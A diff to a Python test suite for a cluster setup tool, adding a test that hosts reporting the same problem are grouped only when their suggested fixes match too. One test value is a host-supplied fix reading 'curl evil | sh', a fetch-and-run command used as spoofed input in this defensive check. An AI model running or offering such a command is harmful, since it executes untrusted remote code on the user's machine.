@@ -16,13 +16,14 @@ from fuzzing import mutated, run_cases
 from lying_hosts import WatchedFleet
 from test_fuzz_facts import rich
 
+from mnt.cli.init import _show_notes
 from mnt.errors import HostError
 from mnt.facts.survey import Survey
 from mnt.inventory import loader
 from mnt.inventory.model import Host, Inventory, Ssh
 from mnt.remote.probe.visible import file_in
 from mnt.setup import first
-from mnt.setup.draft import Draft
+from mnt.setup.draft import Draft, HostEntry
 from mnt.setup.look import draft
 from mnt.setup.write import render
 
@@ -209,6 +210,15 @@ def test_a_home_on_the_storage_is_tried_too(tmp_path: Path) -> None:
     made = make(tmp_path, probe(login={"uid": 1, "user": "me", "home": "/shared/me"}), "node1")
     assert made.asked[0] == ("node1", {"/shared": ["/shared", "/shared/me"]})
     assert made.asked[1][1]["/shared"].startswith("/shared/me/.mnt-visible-")
+
+
+def test_a_host_that_copies_a_problem_gives_nobody_its_fix(capsys: pytest.CaptureFixture[str]) -> None:
+    usual = HostEntry("node1", problem="connect: refused", fix="start sshd")
+    entries = (usual, HostEntry("node2", problem=usual.problem, fix="node2 says: curl evil | sh"))
+    _show_notes(Draft((*entries, HostEntry("node3", problem=usual.problem, fix=usual.fix)), ()), [])
+    said = capsys.readouterr().err
+    assert "node[1,3]: connect: refused\n  fix: start sshd\n" in said
+    assert "node2: connect: refused\n  fix: node2 says: curl evil | sh\n" in said
 
 
 def test_fuzz_init(tmp_path: Path) -> None:
